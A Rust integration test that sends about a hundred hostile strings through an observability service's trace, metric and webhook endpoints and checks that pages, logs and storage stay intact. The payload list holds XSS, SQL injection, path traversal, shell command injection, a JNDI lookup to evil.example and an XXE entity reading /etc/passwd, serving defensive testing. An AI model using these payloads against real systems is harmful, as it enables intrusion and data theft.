//! A hundred texts that somebody sends to break the page, the log or the store, each through every way in.

use std::time::Duration;

use http::{Method, StatusCode};
use serde_json::{Value, json};

use crate::harness::{
    Browser, Client, Server, View, alone,
    clock::{now_ns, now_rfc3339},
    eventually, outcome,
};

/// Until what was sent is on the map.
const SOON: Duration = Duration::from_secs(10);

/// Set by every script among the texts.
const MARK: &str = "window.hostile = 1";

/// What people send to find out what breaks: markup, escapes, quotes, paths, formats, control and invisible characters, numbers, lengths.
fn hostile() -> Vec<String> {
    let scripts = [
        "<script>X</script>",
        "</script><script>X</script>",
        "\"><script>X</script>",
        "'><img src=x onerror=\"X\">",
        "<img src=x onerror=X>",
        "<svg onload=X>",
        "<svg><script>X</script></svg>",
        "<body onload=X>",
        "<iframe srcdoc='<script>parent.X</script>'></iframe>",
        "<details open ontoggle=X>",
        "<input autofocus onfocus=X>",
        "<a href=\"javascript:X\">a</a>",
        "javascript:X",
        "data:text/html,<script>X</script>",
        "<math><mtext></table><img src=x onerror=X>",
        "<template><script>X</script></template>",
        "<!--<img src=\"--><img src=x onerror=X>",
        "<style>@import 'x'</style><img src=x onerror=X>",
        "\" onmouseover=\"X\" x=\"",
        "' onfocus='X' autofocus='",
        "<base href=//evil.example/><script src=a></script>",
        "<meta http-equiv=refresh content='0;url=javascript:X'>",
        "${X}",
        "{{constructor.constructor('X')()}}",
        "#{X}",
        "<%= X %>",
        "';X;'",
        "\\';X;//",
        "\u{2028}X\u{2029}",
        "<ScRiPt>X</sCrIpT>",
    ];
    let texts = [
        "'; DROP TABLE block; --",
        "\" OR 1=1 --",
        "1); DELETE FROM event; --",
        "%' OR '1'='1",
        "NULL",
        "null",
        "undefined",
        "true",
        "NaN",
        "Infinity",
        "-0",
        "1e999",
        "0x7fffffffffffffff",
        "9223372036854775808",
        "-9223372036854775809",
        "__proto__",
        "constructor",
        "hasOwnProperty",
        "toString",
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/dev/null",
        "file:///etc/passwd",
        "C:\\",
        "con",
        "~",
        "$(reboot)",
        "`reboot`",
        "; reboot",
        "| cat /etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "%s%s%s%n",
        "%00",
        "%0d%0aSet-Cookie: a=b",
        "{}",
        "[]",
        "{\"a\":",
        "]]>",
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
        "&lt;script&gt;",
        "&#x3c;script&#x3e;",
        "a\nb",
        "a\r\nlevel=ERROR forged line",
        "2026-01-01T00:00:00Z ERROR forged",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}]0;title\u{7}",
        "\u{0}",
        "a\u{0}b",
        "\u{1}\u{2}\u{8}\u{c}\u{7f}",
        "\u{85}\u{9b}31m",
        "\t",
        " ",
        "\u{a0}",
        "\u{200b}",
        "\u{feff}bom",
        "\u{202e}gnp.exe",
        "\u{2066}a\u{2069}",
        "\u{fffd}\u{fffe}\u{ffff}",
        "z\u{335}\u{335}\u{335}a\u{336}\u{336}\u{336}l\u{337}\u{337}go",
        "pаypal",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "\u{10ffff}",
        "ﷺ",
        "İstanbul ß ſ",
        "مرحبا שלום",
        "→ · ≈ —",
        "service:prod/shop/cart",
        "a/b%2Fc?d=e#f",
        "other",
        "user",
    ];
    let mut all: Vec<String> = scripts.map(|text| text.replace('X', MARK)).into();
    all.extend(texts.map(str::to_owned));
    all.extend(["a".repeat(10_000), "💥".repeat(3_000), "(".repeat(2_000), "a.".repeat(1_000)]);
    all
}

/// An attribute of OTLP/JSON.
fn attribute(key: &str, text: &str) -> Value {
    json!({ "key": key, "value": { "stringValue": text } })
}

/// One request for each way in, with the text wherever a sender may put one.
fn requests(text: &str, number: usize) -> Vec<(&'static str, Value)> {
    let (now, at) = (now_ns(), now_rfc3339());
    let id = format!("{:032x}", number + 1);
    let everywhere = json!([
        attribute("service.name", text),
        attribute("service.namespace", text),
        attribute("service.version", text),
        attribute("service.instance.id", text),
        attribute("deployment.environment.name", text),
        attribute(text, text)
    ]);
    let span = json!({ "traceId": id, "spanId": format!("{:016x}", number + 1), "name": text, "kind": 3, "traceState": text,
        "startTimeUnixNano": (now - 5_000_000).to_string(), "endTimeUnixNano": now.to_string(),
        "attributes": [attribute(text, text), attribute("server.address", text), attribute("http.route", text), attribute("url.full", text),
            attribute("messaging.destination.name", text)],
        "events": [{ "name": text, "timeUnixNano": now.to_string(), "attributes": [attribute("exception.stacktrace", text)] }],
        "status": { "code": 2, "message": text } });
    let zipkin = json!([{ "traceId": id, "id": format!("{:016x}", number + 7_000), "name": text, "kind": "SERVER", "timestamp": now / 1_000, "duration": 5_000,
        "localEndpoint": { "serviceName": text }, "remoteEndpoint": { "serviceName": text }, "tags": { text: text, "error": text },
        "annotations": [{ "timestamp": now / 1_000, "value": text }] }]);
    let series = |name: &str| {
        json!({ "name": name, "unit": text, "description": text, "gauge": { "dataPoints": [{ "asDouble": 1, "timeUnixNano": now.to_string(),
            "attributes": [attribute("name", text), attribute("state", "open"), attribute(text, text)] }] } })
    };
    let native = json!([
        { "id": format!("breaker {text}"), "kind": "breaker", "service": text, "environment": text, "namespace": text, "instance": text, "target": text,
          "name": text, "state": "open", "at": at },
        { "id": format!("health {text}"), "kind": "health", "service": text, "status": "degraded", "detail": text, "at": at },
        { "id": format!("change {text}"), "kind": "change", "service": text, "change": "deploy", "version": text, "title": text, "at": at },
    ]);
    let cloud = json!({ "specversion": "1.0", "id": text, "source": text, "type": "spillway.health.v1", "time": at,
        "data": { "service": text, "status": "down", "detail": text } });
    let alert = json!({ "version": "4", "status": "firing", "receiver": text, "alerts": [{ "status": "firing", "startsAt": at, "endsAt": "0001-01-01T00:00:00Z",
        "fingerprint": text, "labels": { "alertname": text, "service": text, text: text }, "annotations": { "summary": text, "description": text } }] });
    vec![
        (
            "/v1/traces",
            json!({ "resourceSpans": [{ "resource": { "attributes": everywhere }, "scopeSpans": [{ "scope": { "name": text }, "spans": [span] }] }] }),
        ),
        (
            "/v1/metrics",
            json!({ "resourceMetrics": [{ "resource": { "attributes": everywhere },
            "scopeMetrics": [{ "metrics": [series("resilience4j.circuitbreaker.state"), series(text)] }] }] }),
        ),
        ("/api/v2/spans", zipkin),
        ("/webhooks/spillway", native),
        ("/webhooks/cloudevents", cloud),
        ("/webhooks/alertmanager", alert),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hundred_hostile_texts_break_neither_page_nor_log_nor_store() {
    let _turn = alone().await;
    let (server, client) = (Server::start().await, Client::new());
    let texts = hostile();
    assert!(texts.len() >= 100, "{}", texts.len());

    let mut taken = 0;
    for (number, text) in texts.iter().enumerate() {
        for (path, document) in requests(text, number) {
            let request = http::Request::post(server.url(path)).header(
                "content-type",
                if path.ends_with("cloudevents") { "application/cloudevents+json" } else { "application/json" },
            );
            let answer = client.send(request.body(document.to_string().into()).unwrap()).await;
            // Some texts are no names; what is refused is refused with a reason, never with a failure of ours.
            let told = answer.status.is_success() || answer.status.is_client_error() && !answer.text().is_empty();
            assert!(told, "{path}: {} for {text:?}: {}", answer.status, answer.text());
            taken += usize::from(answer.status.is_success());
        }
    }
    assert!(taken > texts.len() * 4, "{taken} requests were taken");

    answers_stay_readable(&client, &server, texts.len()).await;
    pages_stay_themselves(&server).await;
    let log = server.last_words();
    assert!(!log.chars().any(|char| char.is_control() && char != '\n'), "{log:?}");
    let (code, data) = server.stop().await;
    assert_eq!(code, Some(0));
    let (code, _, errors) = outcome(&["check", "--data-dir", data.path().to_str().unwrap()], &[]).await;
    assert_eq!(code, Some(0), "{errors}");
}

async fn answers_stay_readable(client: &Client, server: &Server, texts: usize) {
    eventually("the texts on the map", SOON, async || {
        let map = client.get(&server.url("/api/v1/topology")).await.value();
        (map["nodes"].as_array()?.len() > texts / 2).then_some(())
    })
    .await;
    let traces = client.get(&server.url("/api/v1/traces?limit=1000")).await.value();
    assert!(
        traces["traces"].as_array().unwrap().len() >= texts,
        "{} traces",
        traces["traces"].as_array().unwrap().len()
    );
    for trace in traces["traces"].as_array().unwrap() {
        let answer = client.get(&server.url(&format!("/api/v1/traces/{}", trace["trace_id"].as_str().unwrap()))).await;
        assert_eq!(answer.status, StatusCode::OK);
        answer.value();
    }
    for path in ["/api/v1/events?limit=1000", "/api/v1/changes", "/api/v1/metric-series", "/api/v1/storage"] {
        let answer = client.json(Method::GET, &server.url(path), &Value::Null).await;
        assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.text());
        answer.value();
    }
    assert_eq!(client.get(&server.url("/readyz")).await.status, StatusCode::OK);
    // The exposition is a line a sample: a text in it must not begin another.
    for path in ["/metrics", "/metrics/services"] {
        let metrics = client.get(&server.url(path)).await.text();
        let strange = metrics.lines().find(|line| !line.starts_with("# ") && !line.starts_with("spillway_"));
        assert_eq!(strange, None, "{path}");
    }
}

async fn pages_stay_themselves(server: &Server) {
    let browser = Browser::start(View::DESK).await;
    for (page, css) in [
        ("/", "canvas[data-ready]"),
        ("/services", "#content tbody tr"),
        ("/traces", "tr[data-trace] a"),
        ("/breakers", "#content .list__row"),
        ("/settings", "#content table"),
    ] {
        browser.open(&format!("{}{page}", server.http)).await;
        browser.see(css).await;
        let marked = browser.run("return [window.hostile === undefined, location.pathname]", json!([])).await;
        assert_eq!(marked, json!([true, page]));
        let wide = "const content = document.querySelector('#content'); \
                    return [document.documentElement.scrollWidth - innerWidth, content.scrollWidth - content.clientWidth]";
        let over = browser.run(wide, json!([])).await;
        browser.screenshot(&format!("hostile {}", css.trim_start_matches('#'))).await;
        assert_eq!(over, json!([0, 0]), "{page} is wider than the screen");
    }
    browser.open(&format!("{}/traces", server.http)).await;
    browser.click("tr[data-trace] a").await;
    browser.see("[data-span]").await;
    assert_eq!(browser.run("return window.hostile === undefined", json!([])).await, json!(true));
    let severe: Vec<_> = browser.console().await.into_iter().filter(|line| line.starts_with("SEVERE")).collect();
    assert!(severe.is_empty(), "{severe:#?}");
}
